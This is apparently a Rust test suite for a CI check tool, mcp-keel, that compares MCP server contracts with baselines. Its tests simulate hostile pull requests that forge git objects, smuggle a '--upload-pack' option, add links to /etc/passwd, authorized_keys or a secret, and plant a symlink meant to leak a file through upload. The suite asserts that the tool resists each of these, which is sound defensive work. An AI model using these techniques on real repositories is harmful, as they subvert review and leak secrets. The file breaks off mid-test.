//! Pull requests that try to forge their base, to judge themselves, or to be judged in the place of another commit.

use serde_json::json;

use crate::github::{Pull, drifted, fleet, usual};
use crate::machine::git;

/// A pull request that breaks callers, and pins that: the base's baseline is all that shows it.
fn breaking() -> Pull {
    let pull = Pull::new(&usual());
    pull.serve(&drifted());
    pull.pin();
    pull
}

impl Pull {
    /// The title of the one run that was posted.
    #[track_caller]
    fn title(&self, conclusion: &str) -> String {
        let (run, _) = self.one_run(conclusion);
        run["output"]["title"].as_str().unwrap().to_owned()
    }

    fn git(&self, args: &[&str]) -> String {
        git(self.keel.folder(), args)
    }

    /// The file of a loose object.
    fn loose(&self, repository: &str, id: &str) -> std::path::PathBuf {
        let objects = self.keel.folder().join(repository).join("objects");
        objects.join(&id[..2]).join(&id[2..])
    }
}

/// With a token GitHub says what the base is, without one git does.
#[test]
fn a_replaced_object_does_not_forge_the_base() {
    let mut pull = breaking();
    let old = pull.git(&["rev-parse", &format!("{}:mcp-baseline.json", pull.base)]);
    let new = pull.git(&["hash-object", "-w", "mcp-baseline.json"]);
    pull.double.state().repository = Some(copy_of_repository(&pull));
    pull.git(&["replace", &old, &new]);
    pull.run().exits(1);
    assert!(pull.title("failure").contains("2 breaking"));
    pull.set("INPUT_TOKEN", "");
    pull.run().exits(1).says("against the base branch");
}

/// What GitHub has, whatever a step does to the clone.
fn copy_of_repository(pull: &Pull) -> std::path::PathBuf {
    let copy = pull.keel.folder().join("runner/github");
    let copied = std::process::Command::new("cp")
        .arg("-a")
        .args([&pull.keel.folder().join(".git"), &copy])
        .status();
    assert!(copied.unwrap().success());
    copy
}

#[test]
fn with_a_token_an_object_with_other_bytes_under_the_same_name_does_not_forge_the_base() {
    for what in ["blob", "tree", "commit", "merge"] {
        let pull = breaking();
        pull.double.state().repository = Some(copy_of_repository(&pull));
        let path = format!("{}:mcp-baseline.json", pull.base);
        let old = match what {
            "blob" => pull.git(&["rev-parse", &path]),
            "tree" => pull.git(&["rev-parse", &format!("{}^{{tree}}", pull.base)]),
            "commit" => pull.base.clone(),
            _ => pull.merge.clone(),
        };
        let (base, head) = (pull.base.clone(), pull.head.clone());
        // A base with the baseline of the pull request.
        let forged = pull.keel.read("mcp-baseline.json");
        let blob = pull.git(&["hash-object", "-w", "mcp-baseline.json"]);
        let index = format!("100644,{blob},mcp-baseline.json");
        pull.git(&["update-index", "--add", "--cacheinfo", &index]);
        let tree = pull.git(&["write-tree"]);
        let commit = pull.git(&["commit-tree", &tree, "-m", "forged"]);
        let new = match what {
            "blob" => blob,
            "tree" => tree,
            "commit" => commit,
            _ => {
                let parents = ["-p", &commit, "-p", &head];
                let merge = ["commit-tree", &tree, "-m", "forged"];
                pull.git(&[&merge[..], &parents].concat())
            }
        };
        let place = pull.loose(".git", &old);
        std::fs::remove_file(&place).unwrap();
        std::fs::copy(pull.loose(".git", &new), &place).unwrap();
        if what == "merge" {
            // Which commit is the base is not known then.
            pull.run().exits(3);
            continue;
        }
        // Git itself believes it.
        let named = format!("{base}:mcp-baseline.json");
        let believed = pull.git(&["cat-file", "blob", &named]);
        assert_eq!(believed, forged.trim_end(), "{what}");
        pull.run().exits(1);
        assert!(pull.title("failure").contains("2 breaking"), "{what}");
    }
}

/// No code is needed for this one: everything is committed.
#[test]
fn a_committed_folder_that_looks_like_a_repository_is_not_asked() {
    let mut pull = Pull::new(&usual());
    let baseline = pull.keel.read("mcp-baseline.json");
    pull.on_base.clear();
    pull.on_base("sub/mcp-baseline.json", &baseline);
    pull.set("INPUT_WORKING-DIRECTORY", "sub");
    pull.serve(&drifted());
    pull.pin();
    let forged = pull.keel.read("mcp-baseline.json");
    pull.keel.write("sub/mcp-baseline.json", &forged);
    // `sub` is a bare repository, in which the base's commit has the pull request's baseline.
    pull.keel.write("sub/HEAD", "ref: refs/heads/main\n");
    pull.keel.write("sub/refs/x", "");
    pull.keel.write("sub/config", "[core]\n\tbare = true\n");
    std::fs::create_dir_all(pull.keel.folder().join("sub/objects")).unwrap();
    let sub = pull.keel.folder().join("sub");
    let inner = |args: &[&str]| git(&sub, &[&["--git-dir", "."][..], args].concat());
    let blob = inner(&["hash-object", "-w", "mcp-baseline.json"]);
    let index = format!("100644,{blob},sub/mcp-baseline.json");
    inner(&["update-index", "--add", "--cacheinfo", &index]);
    let tree = inner(&["write-tree"]);
    let commit = inner(&["commit-tree", &tree, "-m", "forged"]);
    let place = pull.loose("sub", &pull.base);
    std::fs::create_dir_all(place.parent().unwrap()).unwrap();
    std::fs::copy(pull.loose("sub", &commit), &place).unwrap();
    pull.set("INPUT_TOKEN", "");
    pull.run().exits(1).says("against the base branch");
}

#[cfg(unix)]
#[test]
fn a_working_directory_that_becomes_a_link_is_still_that_of_the_base() {
    let mut pull = Pull::new(&usual());
    let baseline = pull.keel.read("mcp-baseline.json");
    pull.on_base.clear();
    pull.on_base("sub/mcp-baseline.json", &baseline);
    pull.serve(&drifted());
    pull.pin();
    let new = pull.keel.read("mcp-baseline.json");
    pull.keel.write("elsewhere/mcp-baseline.json", &new);
    std::os::unix::fs::symlink("elsewhere", pull.keel.folder().join("sub")).unwrap();
    pull.set("INPUT_WORKING-DIRECTORY", "sub");
    pull.run().exits(1);
    assert!(pull.title("failure").contains("2 breaking"));
}

#[test]
fn variables_of_git_do_not_lead_elsewhere() {
    let mut pull = breaking();
    let other = pull.keel.folder().join("other");
    std::fs::create_dir(&other).unwrap();
    git(&other, &["init", "-q"]);
    pull.set("GIT_DIR", &other.join(".git").to_string_lossy());
    pull.set(
        "GIT_OBJECT_DIRECTORY",
        &other.join(".git/objects").to_string_lossy(),
    );
    pull.set("INPUT_TOKEN", "");
    pull.run().exits(1).says("against the base branch");
}

/// What the second question is answered with when the base's baseline is this.
fn with_base(text: &str) -> Pull {
    let mut pull = breaking();
    pull.on_base("mcp-baseline.json", text);
    pull
}

#[test]
fn what_cannot_be_read_of_the_base_is_undetermined_and_not_new() {
    for (text, why) in [
        ("link: gone.json", "a link to a file that is not there"),
        ("link: /etc/passwd", "outside the repository"),
        ("link: ../outside.json", "outside the repository"),
        ("link: mcp-baseline.json", "outside the repository"),
        (
            "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n",
            "Git LFS",
        ),
        ("{", "is invalid"),
    ] {
        let pull = with_base(text);
        pull.run().exits(3).says(why);
        assert!(
            pull.title("failure")
                .contains("not known what merging changes"),
            "{text}"
        );
    }
}

#[test]
fn a_link_is_followed_within_the_tree_of_the_base() {
    let mut pull = breaking();
    let old = pull.on_base["mcp-baseline.json"].clone();
    pull.on_base.insert("a/b/pinned.json".to_owned(), old);
    pull.on_base
        .insert("a/c".to_owned(), "link: ./b/../b".to_owned());
    pull.on_base("mcp-baseline.json", "link: a/c/pinned.json");
    pull.run().exits(1);
    assert!(pull.title("failure").contains("2 breaking"));
}

/// As `actions/checkout` leaves it: the merge commit and its tree, and nothing of its parents.
fn make_shallow(pull: &Pull) {
    let origin = pull.keel.folder().join("runner/origin");
    let git_folder = pull.keel.folder().join(".git");
    std::fs::rename(&git_folder, &origin).unwrap();
    pull.git(&["init", "-q"]);
    {
        let id = pull.merge.clone();
        let bytes = std::process::Command::new("git")
            .args([
                "--git-dir",
                &origin.to_string_lossy(),
                "cat-file",
                "commit",
                &id,
            ])
            .output()
            .unwrap()
            .stdout;
        pull.keel
            .write("runner/commit", &String::from_utf8(bytes).unwrap());
        let file = pull.keel.folder().join("runner/commit");
        let file = file.to_string_lossy().into_owned();
        let made = pull.git(&["hash-object", "-w", "--literally", "-t", "commit", &file]);
        assert_eq!(made, id);
    }
    pull.git(&["update-ref", "--no-deref", "HEAD", &pull.merge]);
    pull.double.state().repository = Some(origin);
}

#[test]
fn a_shallow_clone_asks_github_and_believes_no_404() {
    let mut pull = breaking();
    make_shallow(&pull);
    pull.run().exits(1);
    assert!(pull.title("failure").contains("2 breaking"));
    // The commit is read, and has no baseline: that is new.
    pull.double.state().repository = None;
    pull.run().exits(3).says("404");
    assert!(
        pull.title("failure")
            .contains("not known what merging changes")
    );
    pull.set("INPUT_TOKEN", "");
    pull.run().exits(3).says("there is no token");
}

#[test]
fn a_baseline_that_the_base_does_not_have_is_new() {
    let mut pull = breaking();
    pull.on_base.clear();
    pull.on_base("README.md", "Nothing yet.");
    pull.run();
    assert!(pull.comments()[0].contains("pins `weather` for the first time"));
}

/// Main moved on: the event names an old commit of it.
#[test]
fn the_base_is_the_first_parent_of_the_merge_and_not_what_the_event_says() {
    let mut pull = Pull::new(&usual());
    // Main has accepted the drift since; the pull request has merged that and touches nothing.
    pull.serve(&drifted());
    pull.pin();
    let stale = pull.base.clone();
    let new = pull.keel.read("mcp-baseline.json");
    pull.on_base("mcp-baseline.json", &new);
    assert_ne!(stale, pull.base);
    let event = pull.keel.read("runner/event.json");
    let event = event.replace(&pull.base, &stale);
    pull.keel.write("runner/event.json", &event);
    pull.run().exits(0);
    assert_eq!(
        pull.title("success"),
        "weather matches its baseline (3 components)"
    );
}

#[test]
fn with_the_head_checked_out_the_base_is_the_merge_base() {
    let mut pull = breaking();
    pull.git(&["update-ref", "--no-deref", "HEAD", &pull.head]);
    // GitHub knows the branch as it is now.
    pull.run().exits(1);
    assert!(pull.title("failure").contains("2 breaking"));
    pull.double.state().merge_base = None;
    pull.run().exits(3).says("merge base");
    // Main moved on, and the event says so.
    pull.set("INPUT_TOKEN", "");
    let tree = pull.git(&["mktree"]);
    let moved = pull.git(&["commit-tree", &tree, "-m", "moved", "-p", &pull.base]);
    let event = pull
        .keel
        .read("runner/event.json")
        .replace(&pull.base, &moved);
    pull.keel.write("runner/event.json", &event);
    pull.run().exits(1).says("against the base branch");
    // A graft is not believed.
    let grafts = format!("{} {}\n", pull.base, pull.head);
    pull.keel.write(".git/info/grafts", &grafts);
    pull.run().exits(1).says("against the base branch");
    // Histories that have nothing in common have no base.
    let other = pull.git(&["commit-tree", &tree, "-m", "another"]);
    let event = pull.keel.read("runner/event.json").replace(&moved, &other);
    pull.keel.write("runner/event.json", &event);
    pull.run().exits(3).says("merge base");
}

/// `pull_request_target` checks out the base branch unless a workflow says otherwise.
#[test]
fn nothing_is_concluded_about_a_commit_that_was_not_checked_out() {
    let mut pull = Pull::new(&usual());
    pull.set("GITHUB_EVENT_NAME", "pull_request_target");
    let base = pull.base.clone();
    pull.set("GITHUB_SHA", &base);
    pull.git(&["update-ref", "--no-deref", "HEAD", &base]);
    pull.run().exits(3).says("is checked out, which is neither");
    assert_eq!(pull.double.state().runs, Vec::<serde_json::Value>::new());
    // The same on a push of another commit: the check is made, and its result is about another commit.
    pull.set("GITHUB_EVENT_NAME", "push");
    let head = pull.head.clone();
    pull.set("GITHUB_SHA", &head);
    pull.run().exits(0).says("is checked out, which is neither");
    assert_eq!(pull.double.state().runs, Vec::<serde_json::Value>::new());
}

/// A step before this one writes a merge of the head into a base of its own.
#[test]
fn a_merge_into_an_unnamed_commit_has_no_base() {
    let pull = breaking();
    let forged = pull.git(&["hash-object", "-w", "mcp-baseline.json"]);
    pull.git(&[
        "update-index",
        "--add",
        "--cacheinfo",
        &format!("100644,{forged},mcp-baseline.json"),
    ]);
    let tree = pull.git(&["write-tree"]);
    let base = pull.git(&["commit-tree", &tree, "-m", "base"]);
    let merge = pull.git(&[
        "commit-tree",
        &tree,
        "-m",
        "merge",
        "-p",
        &base,
        "-p",
        &pull.head,
    ]);
    pull.git(&["update-ref", "--no-deref", "HEAD", &merge]);
    pull.run()
        .exits(3)
        .says("neither the event nor the runner names");
}

/// Not under /tmp, which every server may write to.
#[cfg(target_os = "linux")]
#[test]
fn the_server_cannot_write_into_the_repository() {
    if !crate::machine::has_sandbox() {
        return;
    }
    let keel = crate::keel::Keel::under(std::path::Path::new("/var/tmp"));
    let mut pull = Pull::with(keel, &usual());
    pull.set("HOME", "/nonexistent");
    // The runner's own files are elsewhere; no sandbox allows a folder that holds them.
    let runner = tempfile::tempdir().unwrap();
    let event = pull.keel.read("runner/event.json");
    std::fs::write(runner.path().join("event.json"), event).unwrap();
    for (name, file) in [
        ("GITHUB_EVENT_PATH", "event.json"),
        ("GITHUB_OUTPUT", "output"),
        ("GITHUB_STEP_SUMMARY", "summary.md"),
    ] {
        pull.set(name, &runner.path().join(file).to_string_lossy());
    }
    let hook = pull.keel.folder().join(".git/hooks/post-checkout");
    pull.keel.write("src/index.js", "");
    let beside = pull.keel.folder().join("src/beside");
    let scenario = json!({"tools": usual(), "start": [
        {"write": hook, "content": "evil"}, {"write": beside, "content": "fine"}]});
    pull.keel.write("scenario.json", &scenario.to_string());
    pull.run().exits(0);
    assert!(!hook.exists());
    assert!(
        beside.exists(),
        "the rest of the working copy is the server's"
    );
    pull.set("INPUT_SANDBOX", "off");
    pull.run().exits(0);
    assert!(hook.exists());
}

/// A pull request with a configuration of its own, which the base has too. The server has drifted.
fn configured(more: &str) -> (Pull, String) {
    let mut pull = Pull::new(&usual());
    pull.set("INPUT_COMMAND", "");
    let command = serde_json::to_string(&pull.command()).unwrap();
    let config = format!("[server.weather]\ncommand = {command}\n{more}");
    pull.keel.write("mcp-keel.toml", &config);
    pull.on_base("mcp-keel.toml", &config);
    pull.serve(&drifted());
    (pull, config)
}

/// The first section of the comment.
fn first_section(pull: &Pull) -> String {
    let comment = pull.comments()[0].clone();
    let sections: Vec<&str> = comment.split("\n#### ").collect();
    sections[1].to_owned()
}

#[test]
fn a_pull_request_does_not_choose_the_policy_it_is_judged_by() {
    let (pull, config) = configured("");
    let id = {
        pull.run().exits(1);
        let report = pull.keel.read("mcp-keel-report.json");
        let report: serde_json::Value = serde_json::from_str(&report).unwrap();
        report["servers"][0]["changes"][0]["id"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    for (weaker, says) in [
        (
            "[policy]\nfail-on = \"none\"\n".to_owned(),
            "fail-on: was risky, now none",
        ),
        (
            "[policy]\nenforcement = \"audit\"\n".to_owned(),
            "enforcement: was block, now audit",
        ),
        (
            "[policy.rules]\ntool-removed = \"audit\"\n".to_owned(),
            "tool-removed",
        ),
        (
            "[[server.weather.mask]]\ncomponent = \"*\"\npointer = \"/description\"\nreason = \"noise\"\n".to_owned(),
            "adds a mask to",
        ),
        (
            format!("[[accept]]\nchange = \"{id}\"\nreason = \"fine\"\nowner = \"@me\"\n"),
            "would accept change",
        ),
        (
            "[server.weather.client]\nname = \"zed\"\n".to_owned(),
            "`client` of",
        ),
        (
            "launch-digests = false\n".to_owned(),
            "`launch-digests` of",
        ),
    ] {
        pull.keel
            .write("mcp-keel.toml", &format!("{config}{weaker}"));
        pull.run().exits(1).says("check-weakened");
        let section = first_section(&pull);
        assert!(
            section.starts_with("What this pull request changes about the check"),
            "{section}"
        );
        assert!(section.contains(says), "{section}");
        // The drift is still judged by the base.
        let title = pull.title("failure");
        assert!(
            title.starts_with("this pull request weakens its own check; weather breaks callers (2 breaking"),
            "{title}"
        );
    }
    // With nothing else to say against it, it blocks too.
    pull.serve(&usual());
    pull.keel.write(
        "mcp-keel.toml",
        &format!("{config}[policy]\nfail-on = \"none\"\n"),
    );
    pull.run().exits(1).says("check-weakened");
    pull.label("2026-01-03T00:00:00Z");
    pull.run().exits(0);
    assert!(first_section(&pull).contains("Accepted by `mona`"));
}

#[test]
fn what_makes_the_check_stricter_is_shown_and_does_not_block() {
    let (pull, config) = configured("[policy]\nfail-on = \"breaking\"\n");
    pull.serve(&usual());
    let stricter = config.replace("breaking", "any") + "[server.more]\ncommand = [\"true\"]\n";
    let only_policy = config.replace("breaking", "any");
    pull.keel.write("mcp-keel.toml", &only_policy);
    pull.run().exits(0);
    assert!(first_section(&pull).contains("fail-on: was breaking, now any"));
    pull.keel.write("mcp-keel.toml", &stricter);
    pull.run().exits(0);
    assert!(!first_section(&pull).contains("weakens"));
}

#[test]
fn a_workflow_can_choose_the_policy_of_the_head() {
    let (mut pull, config) = configured("");
    pull.keel.write(
        "mcp-keel.toml",
        &format!("{config}[policy]\nfail-on = \"none\"\n"),
    );
    pull.set("INPUT_POLICY-FROM", "head");
    pull.run().exits(0);
    pull.set("INPUT_POLICY-FROM", "main");
    pull.run().exits(2).says("base or head");
}

/// Every pull request of the group has passed, with its label where it needed one.
#[test]
fn a_merge_queue_is_shown_what_weakens_the_check_and_not_held_up_by_it() {
    let (mut pull, config) = configured("");
    pull.serve(&usual());
    pull.keel.write(
        "mcp-keel.toml",
        &format!("{config}[policy]\nfail-on = \"none\"\n"),
    );
    let event = json!({"merge_group": {"head_sha": pull.merge, "base_sha": pull.base}});
    pull.keel.write("runner/event.json", &event.to_string());
    pull.set("GITHUB_EVENT_NAME", "merge_group");
    pull.head = pull.merge.clone();
    pull.run().exits(0);
    assert!(
        pull.title("success")
            .starts_with("this pull request weakens its own check")
    );
    // Drift is judged by the base here, too.
    pull.serve(&drifted());
    pull.run().exits(1);
}

/// A base without a configuration means the defaults, not the head's file.
#[test]
fn a_configuration_that_is_new_is_not_in_force_yet() {
    let (mut pull, config) = configured("");
    pull.on_base.remove("mcp-keel.toml");
    pull.check_out();
    pull.keel.write(
        "mcp-keel.toml",
        &format!("{config}[policy]\nfail-on = \"none\"\n"),
    );
    pull.run().exits(1).says("check-weakened");
}

#[test]
fn a_configuration_of_the_base_that_cannot_be_read_leaves_all_undetermined() {
    let (mut pull, _) = configured("");
    pull.serve(&usual());
    for (text, why) in [
        ("[policy", "is invalid"),
        ("link: gone.toml", "a link to a file that is not there"),
    ] {
        pull.on_base("mcp-keel.toml", text);
        pull.set("INPUT_COMPARE-BASE", "false");
        pull.run().exits(3).says(why);
        pull.set("INPUT_POLICY-FROM", "head");
        pull.run().exits(0);
        pull.set("INPUT_POLICY-FROM", "base");
    }
    // One that is mended can be accepted.
    pull.on_base("mcp-keel.toml", "[policy");
    pull.label("2026-01-03T00:00:00Z");
    pull.run().exits(0);
}

#[test]
fn a_server_that_leaves_the_list_is_reported() {
    let mut pull = Pull::new(&usual());
    pull.set("INPUT_COMMAND", "");
    pull.set("INPUT_SERVERS", "");
    let command = serde_json::to_string(&pull.command()).unwrap();
    let one =
        format!("baseline = \"pins/{{server}}.json\"\n[server.weather]\ncommand = {command}\n");
    let two = format!("{one}[server.other]\ncommand = {command}\n");
    pull.keel.write("mcp-keel.toml", &two);
    pull.keel.run(&["pin"]).exits(0);
    pull.on_base("mcp-keel.toml", &two);
    for name in ["weather", "other"] {
        let path = format!("pins/{name}.json");
        let text = pull.keel.read(&path);
        pull.on_base(&path, &text);
    }
    pull.run().exits(0);
    pull.keel.write("mcp-keel.toml", &one);
    std::fs::remove_file(pull.keel.folder().join("pins/other.json")).unwrap();
    pull.run().exits(1).says("`other` is no longer checked");

    // The same in a list of a client.
    let servers = |disabled: bool| {
        let words = pull.command();
        json!({"mcpServers": {
            "weather": {"command": words[0], "args": words[1..]},
            "other": {"command": words[0], "args": words[1..], "disabled": disabled},
        }})
        .to_string()
    };
    let config = "baseline = \"pins/{server}.json\"\nfrom = \".mcp.json\"\n";
    let (list, disabled) = (servers(false), servers(true));
    pull.keel.write("mcp-keel.toml", config);
    pull.keel.write(".mcp.json", &list);
    pull.on_base("mcp-keel.toml", config);
    pull.on_base(".mcp.json", &list);
    pull.keel.run(&["pin"]).exits(0);
    pull.run().exits(0);
    pull.keel.write(".mcp.json", &disabled);
    pull.run().exits(1).says("`other` is no longer checked");
}

#[test]
fn a_baseline_that_moves_is_reported_and_compared_with_the_one_of_the_base() {
    let (pull, config) = configured("");
    pull.pin();
    let text = pull.keel.read("mcp-baseline.json");
    std::fs::remove_file(pull.keel.folder().join("mcp-baseline.json")).unwrap();
    pull.keel.write("elsewhere.json", &text);
    pull.keel.write(
        "mcp-keel.toml",
        &format!("baseline = \"elsewhere.json\"\n{config}"),
    );
    pull.run()
        .exits(1)
        .says("was mcp-baseline.json, now elsewhere.json");
    let title = pull.title("failure");
    assert!(
        title.contains("merging approves changes of weather that break callers (2 breaking"),
        "{title}"
    );
    // The old one is left behind, as a decoy that the server still matches.
    pull.serve(&usual());
    pull.keel
        .write("mcp-baseline.json", &pull.on_base["mcp-baseline.json"]);
    pull.run().exits(1);
    let title = pull.title("failure");
    assert!(
        title.contains("merging approves changes of weather that break callers (2 breaking"),
        "{title}"
    );
}

#[test]
fn bytes_that_the_base_did_not_approve_are_not_started_unless_accepted() {
    let mut pull = Pull::new(&usual());
    pull.set("INPUT_COMMAND", "");
    let command = serde_json::to_string(&pull.command()).unwrap();
    let config = |value: &str| {
        format!(
            "[server.weather]\ncommand = {command}\n[server.weather.verify]\ntype = \"file\"\npath = \"program\"\n\
             value = \"{value}\"\n"
        )
    };
    let digest = |text: &str| {
        use sha2::Digest as _;
        let digest = sha2::Sha256::digest(text.as_bytes());
        digest
            .iter()
            .map(|byte| format!("{byte:02x}"))
            .collect::<String>()
    };
    pull.keel.write("program", "old");
    pull.on_base("mcp-keel.toml", &config(&digest("old")));
    pull.keel.write("mcp-keel.toml", &config(&digest("old")));
    pull.run().exits(0);
    pull.keel.write("program", "new");
    pull.run().exits(4);
    pull.keel.write("mcp-keel.toml", &config(&digest("new")));
    pull.run().exits(4);
    pull.label("2026-01-03T00:00:00Z");
    pull.run().exits(0);
    assert!(first_section(&pull).contains("verify digest"));
}

#[test]
fn masks_and_acceptances_in_force_are_always_listed() {
    let mask = "[[server.weather.mask]]\ncomponent = \"tool:forecast@\"\npointer = \"/description\"\nreason = \"a date\"\n";
    let (pull, _) = configured(mask);
    pull.run().exits(1);
    let comment = &pull.comments()[0];
    assert!(
        comment.contains("Masks and acceptances in force: 1"),
        "{comment}"
    );
    assert!(comment.contains("a date"), "{comment}");
}

#[test]
fn the_command_line_takes_the_policy_of_a_revision() {
    let (pull, config) = configured("");
    pull.keel.write(
        "mcp-keel.toml",
        &format!("{config}[policy]\nfail-on = \"none\"\n"),
    );
    let base = pull.base.as_str();
    pull.keel.run(&["check"]).exits(0);
    pull.keel
        .run(&["check", "--policy-from", base])
        .exits(1)
        .says("check-weakened");
    pull.serve(&usual());
    pull.keel
        .run(&["check", "--policy-from", base])
        .exits(1)
        .says("check-weakened");
    pull.keel.write("mcp-keel.toml", &config);
    pull.keel.run(&["check", "--policy-from", base]).exits(0);
    pull.keel
        .run(&["check", "--policy-from", "nowhere"])
        .exits(2)
        .says("--policy-from nowhere");
    pull.keel
        .run(&["check", "--policy-from", "--upload-pack=x"])
        .exits(2);
}

#[test]
fn a_label_accepts_the_commit_it_was_set_for_and_no_later_one() {
    let mut pull = breaking();
    pull.label("2026-01-03T00:00:00Z");
    pull.run().exits(0);
    assert!(pull.comments()[0].contains("Accepted by `mona`"));
    // Another event about the same commit: the check run remembers.
    let later = json!({"pull_request": {
        "number": 7, "updated_at": "2026-01-04T00:00:00Z",
        "head": {"sha": pull.head, "repo": {"full_name": "octo/weather"}},
        "base": {"sha": pull.base, "ref": "main"},
    }});
    pull.event("edited", later.clone());
    pull.run().exits(0);
    // A push in the same second is not known to be older.
    pull.double.state().runs.clear();
    let mut same = later.clone();
    same["pull_request"]["updated_at"] = json!("2026-01-03T00:00:00Z");
    pull.event("synchronize", same);
    pull.run().exits(1);
    // Another commit is pushed. Nothing of it was there to be seen when the label was set.
    pull.double.state().runs.clear();
    pull.event("synchronize", later);
    pull.run().exits(1);
    let comment = &pull.comments()[0];
    assert!(
        comment.contains("before this commit was pushed"),
        "{comment}"
    );
    // Set again, it counts; set by a program, it does not.
    pull.label("2026-01-05T00:00:00Z");
    pull.run().exits(0);
    pull.double.state().runs.clear();
    pull.double.state().timeline.push(json!({
        "event": "labeled", "created_at": "2026-01-06T00:00:00Z", "label": {"name": "mcp-keel: accept-breaking"},
        "actor": {"login": "github-actions[bot]", "type": "Bot"},
    }));
    pull.run().exits(1);
    // A label that is gone is no label.
    pull.double.state().labels.clear();
    pull.run().exits(1);
    pull.set("INPUT_TOKEN", "");
    pull.run().exits(1);
}

#[cfg(unix)]
#[test]
fn reports_follow_no_link_and_wait_for_no_pipe() {
    use std::os::unix::fs::symlink;
    let mut pull = Pull::new(&usual());
    let outside = tempfile::tempdir().unwrap();
    let keys = outside.path().join("authorized_keys");
    std::fs::write(&keys, "mine\n").unwrap();
    let report = pull.keel.folder().join("mcp-keel-report.json");
    symlink(&keys, &report).unwrap();
    pull.run().exits(0);
    assert_eq!(std::fs::read_to_string(&keys).unwrap(), "mine\n");
    assert!(report.symlink_metadata().unwrap().is_file());
    std::fs::remove_file(&report).unwrap();
    nix::unistd::mkfifo(&report, nix::sys::stat::Mode::S_IRWXU).unwrap();
    pull.run().exits(0);
    assert!(report.symlink_metadata().unwrap().is_file());
    // A folder that leads out of the workspace, and a path that does.
    symlink(outside.path(), pull.keel.folder().join("out")).unwrap();
    for path in ["out/report.json", "../report.json", "/tmp/report.json"] {
        pull.set("INPUT_REPORT", &format!("json={path}"));
        pull.run().exits(2).says("cannot write it");
    }
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 1);
}

/// The head commits a link.
#[cfg(unix)]
fn commit_link(pull: &mut Pull, path: &str, target: &std::path::Path) {
    let place = pull.keel.folder().join(path);
    std::os::unix::fs::symlink(target, place).unwrap();
    let link = format!("link: {}", target.display());
    pull.on_head.insert(path.to_owned(), link);
    pull.check_out();
}

/// What a step of the workflow would take for something that mcp-keel wrote.
#[cfg(unix)]
#[test]
fn what_the_head_commits_at_the_place_of_a_report_is_gone_before_any_server_starts() {
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret");
    std::fs::write(&secret, "mine\n").unwrap();
    for what in [
        "a folder",
        "a file",
        "a link to a file",
        "a link to a folder",
    ] {
        let mut pull = Pull::new(&usual());
        match what {
            "a folder" => {
                pull.on_head("part.json/part.json", "{}");
                pull.on_head("mcp-keel-approval.json/deep/er/x", "");
            }
            "a file" => pull.on_head("part.json", "{}"),
            "a link to a file" => commit_link(&mut pull, "part.json", &secret),
            _ => commit_link(&mut pull, "part.json", outside.path()),
        }
        pull.set("INPUT_REPORT", "json=part.json");
        let place = pull.keel.folder().join("part.json");
        let seen = pull.keel.folder().join("seen");
        let look = format!(
            "[ -e '{0}' ] || [ -L '{0}' ] && touch '{1}'; exit 7",
            place.display(),
            seen.display()
        );
        let command = pull.env["INPUT_COMMAND"].clone();
        let looking = format!("sh -c {}", shlex::try_quote(&look).unwrap());
        pull.set("INPUT_COMMAND", &looking);
        pull.set("INPUT_SANDBOX", "off");
        pull.run().exits(3);
        assert!(!seen.exists(), "{what}");
        pull.set("INPUT_COMMAND", &command);
        pull.run().exits(0);
        assert!(place.symlink_metadata().unwrap().is_file(), "{what}");
        assert_eq!(pull.outputs()["report"], "part.json");
        // A run that cannot check says that it wrote nothing, and nothing is there.
        pull.set("INPUT_CONFIG", "gone.toml");
        pull.run().exits(2);
        assert!(place.symlink_metadata().is_err(), "{what}");
        assert!(!pull.keel.folder().join("runner/output").exists());
    }
    let left = std::fs::read_dir(outside.path()).unwrap().count();
    let secret = std::fs::read_to_string(&secret).unwrap();
    assert_eq!((left, secret.as_str()), (1, "mine\n"));
}

/// A folder is uploaded with all that is in it, and links are followed.
#[cfg(unix)]
#[test]
fn a_folder_of_proposed_baselines_holds_nothing_else() {
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret");
    std::fs::write(&secret, "mine\n").unwrap();
    for by_the_server in [false, true] {
        let mut pull = Pull::new(&usual());
        let config = |edition: &str| {
            let program = env!("CARGO_BIN_EXE_mcp-keel");
            let put = format!(
                "mkdir -p mcp-keel-proposed; ln -sf {} mcp-keel-proposed/stolen; ",
                secret.display()
            );
            let put = if by_the_server { put.as_str() } else { "" };
            let start = format!("{put}exec {program} demo --serve {edition}");
            let server =
                |name: &str| format!("[server.{name}]\ncommand = [\"sh\", \"-c\", \"{start}\"]\n");
            let servers = [server("one"), server("two")].concat();
            format!("baseline = \"contracts/{{server}}.json\"\n{servers}")
        };
        pull.keel.write("mcp-keel.toml", &config("pinned"));
        pull.keel.run(&["pin"]).exits(0);
        pull.on_base.clear();
        for name in ["mcp-keel.toml", "contracts/one.json", "contracts/two.json"] {
            let text = pull.keel.read(name);
            pull.on_base(name, &text);
        }
        let proposed = pull.keel.folder().join("mcp-keel-proposed");
        let _ = std::fs::remove_dir_all(&proposed);
        pull.keel.write("mcp-keel.toml", &config("drifted"));
        pull.set("INPUT_COMMAND", "");
        pull.set("INPUT_SERVERS", "");
        if !by_the_server {
            pull.on_head("mcp-keel-proposed/extra", "");
            commit_link(&mut pull, "mcp-keel-proposed/stolen", &secret);
        }
        pull.run().exits(1);
        assert_eq!(pull.outputs()["proposed-baseline"], "mcp-keel-proposed");
        let names = |folder: &std::path::Path| -> Vec<String> {
            let entries = std::fs::read_dir(folder).unwrap();
            let mut names: Vec<String> = entries
                .map(|it| it.unwrap().file_name().into_string().unwrap())
                .collect();
            names.sort();
            names
        };
        assert_eq!(names(&proposed), ["contracts"]);
        assert_eq!(names(&proposed.join("contracts")), ["one.json", "two.json"]);
    }
}

/// The job that joins parts runs nothing of the pull request, and must not read the pull request's own files as reports.
#[cfg(unix)]
#[test]
fn reports_that_the_head_committed_or_links_to_are_not_joined() {
    let mut pull = fleet();
    let outside = tempfile::tempdir().unwrap();
    let parts = outside.path().join("parts");
    // A report about servers that did not drift.
    let drifted = pull.keel.read("mcp-keel.toml");
    let clean = crate::fleet::configuration(&crate::fleet::servers(3, &[]));
    pull.keel.write("mcp-keel.toml", &clean);
    pull.set("INPUT_SHARD", "1/1");
    pull.run().exits(0);
    let report = pull.keel.read("mcp-keel-report.json");
    pull.env.remove("INPUT_SHARD");
    pull.keel.write("mcp-keel.toml", &drifted);
    std::fs::create_dir(&parts).unwrap();
    std::fs::write(parts.join("part.json"), &report).unwrap();
    // Where the documented workflows unpack it, it is read.
